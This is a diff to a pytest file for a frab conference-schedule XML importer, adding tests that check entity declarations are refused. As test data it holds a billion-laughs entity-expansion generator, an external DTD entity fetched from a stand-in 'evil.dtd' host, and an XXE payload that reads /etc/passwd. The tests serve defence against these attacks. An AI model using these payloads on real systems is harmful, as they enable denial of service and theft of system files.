@@ -161,7 +161,8 @@ def test_a_bad_event_names_record_field_and_problem(name, record, field, problem
     [
         ("frab-bad-broken.json", "not valid JSON: "),
         ("frab-bad-broken.xml", "not valid XML: mismatched tag"),
-        ("frab-bad-entities.xml", "refused: XML with a DOCTYPE or ENTITY declaration"),
+        ("frab-bad-entities.xml", "refused: the XML declares the entity 'lol' (<!ENTITY …>)"),
+        ("frab-bad-external-entity.xml", "refused: the XML declares the entity 'secret' (<!ENTITY …>)"),
     ],
 )
 def test_an_unreadable_file_is_an_error_about_the_whole_file(name, problem_start):
@@ -170,6 +171,50 @@ def test_an_unreadable_file_is_an_error_about_the_whole_file(name, problem_start
 
     assert (caught.value.record, caught.value.field) == (None, None)
     assert caught.value.problem.startswith(problem_start)
+
+
+def billion_laughs(levels: int = 10) -> str:
+    """Ten entities each ten times the one before: a 1 KB file that expat would expand to 3 GB of 'lol'."""
+    entities = ['<!ENTITY lol0 "lol">'] + [
+        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)
+    ]  # fmt: skip
+    return f"<?xml version='1.0'?><!DOCTYPE schedule [{''.join(entities)}]>" + (
+        "<schedule><conference><acronym>x</acronym><title>X</title><start>2024-05-10</start></conference>"
+        f"<day index='1' date='2024-05-10'><room name='A'><event guid='g1'><title>&lol{levels - 1};</title>"
+        "</event></room></day></schedule>"
+    )
+
+
+@pytest.mark.parametrize(
+    ("document", "refusal"),
+    [
+        (billion_laughs(), "refused: the XML declares the entity 'lol0' (<!ENTITY …>); entities can blow a small file "
+                           "up without bound or read other files: export the schedule again without a DTD"),
+        ('<!DOCTYPE schedule [<!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote;]><schedule/>',
+         "refused: the XML declares the entity 'remote'"),
+        ('<!DOCTYPE schedule [<!ENTITY passwd SYSTEM "file:///etc/passwd">]><schedule>&passwd;</schedule>',
+         "refused: the XML declares the entity 'passwd'"),
+    ],
+)  # fmt: skip
+def test_entity_expansion_and_external_entities_are_refused_saying_what_to_do(tmp_path, document, refusal):
+    path = tmp_path / "schedule.xml"
+    path.write_text(document, encoding="utf-8")
+
+    with pytest.raises(ImportFileError) as caught:
+        frab.read(path)
+
+    assert (caught.value.record, caught.value.field) == (None, None)
+    assert caught.value.problem.startswith(refusal)
+    assert "export the schedule again without a DTD" in caught.value.problem
+
+
+def test_a_doctype_without_declarations_is_harmless_and_read(tmp_path):
+    """expat never fetches an external DTD, so a DOCTYPE line alone (some exporters write one) changes nothing."""
+    text = (FIXTURES / "frab-minicon.xml").read_text(encoding="utf-8")
+    path = tmp_path / "schedule.xml"
+    path.write_text(text.replace("<schedule", '<!DOCTYPE schedule SYSTEM "schedule.dtd">\n<schedule', 1))
+
+    assert frab.read(path) == frab.read(FIXTURES / "frab-minicon.xml")
 
 
 def test_real_camp2019_reads_completely():
